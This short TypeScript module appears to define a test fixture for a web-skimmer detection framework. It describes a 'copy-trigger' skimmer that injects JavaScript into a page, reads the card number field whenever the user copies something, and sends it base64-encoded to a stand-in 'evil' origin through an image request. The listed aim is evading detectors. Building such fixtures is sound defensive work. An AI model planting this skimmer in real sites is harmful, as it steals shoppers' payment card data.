import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';
import { withCard } from '../snippets.ts';

export default skimmer({
  id: 'copy-trigger',
  why: 'Strikes when something is copied and never else: few visits do that, so few see more than the listener.',
  covers: ['evade: detectors', 'reading: named fields'],
  base: 'direct',
  habit: 'copies',
  install: (site) =>
    site.append(
      withCard(js`
  document.addEventListener('copy', function () {
    if (field('card_number').length > 13) new Image().src = '${site.origins.evil}/cp.gif?d=' + encodeURIComponent(btoa(card()));
  });`),
    ),
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
